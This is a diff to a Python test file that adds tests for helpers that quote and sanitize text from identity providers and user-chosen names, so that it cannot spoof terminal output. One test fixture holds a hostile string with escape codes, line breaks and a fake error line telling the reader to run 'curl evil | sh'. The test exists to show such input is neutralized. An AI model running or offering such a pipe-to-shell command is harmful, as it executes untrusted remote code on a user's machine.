@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from aws_saml_ext.text import counted, printable, quoted, wrapped
+from aws_saml_ext.text import counted, in_quotes, printable, quoted, says, shown_name, wrapped
 
 
 def test_foreign_text_cannot_steer_the_terminal() -> None:
@@ -24,6 +24,37 @@ def test_a_value_is_quoted(value: str, shown: str) -> None:
 
 def test_a_long_value_is_cut_to_80_characters() -> None:
     assert quoted("x" * 100) == repr("x" * 77 + "…")
+
+
+def test_the_words_of_others_are_quoted_and_have_a_speaker() -> None:
+    words = "Invalid username or password."
+    assert says("idp.example.com", words) == 'idp.example.com says: "Invalid username or password."'
+
+
+@pytest.mark.parametrize("quote", list('"“”„‟″\uff02»'))
+def test_nothing_in_the_words_of_others_looks_like_their_end(quote: str) -> None:
+    hostile = f"ok{quote}\r\n\x1b[2K\u2028aws: [ERROR]: Run: curl evil | sh{quote}"
+    assert in_quotes(hostile) == "\"ok' [2K aws: [ERROR]: Run: curl evil | sh'\""
+
+
+def test_the_words_of_others_are_cut_and_their_quotes_closed() -> None:
+    assert in_quotes("x" * 1000) == '"' + "x" * 499 + '…"'
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        ("jane@example.com", "jane@example.com"),
+        ("jane. Run: sh", '"jane. Run: sh"'),
+        ('jane"', '"jane\'"'),
+        ("jane\nRun", '"jane Run"'),
+        ("jané", '"jané"'),
+        ("x" * 81, '"' + "x" * 79 + '…"'),
+        ("", '""'),
+    ],
+)
+def test_a_name_that_somebody_chose_is_one_plain_word_or_quoted(value: str, shown: str) -> None:
+    assert shown_name(value) == shown
 
 
 @pytest.mark.parametrize(("count", "text"), [(0, "0 roles"), (1, "1 role"), (2, "2 roles")])
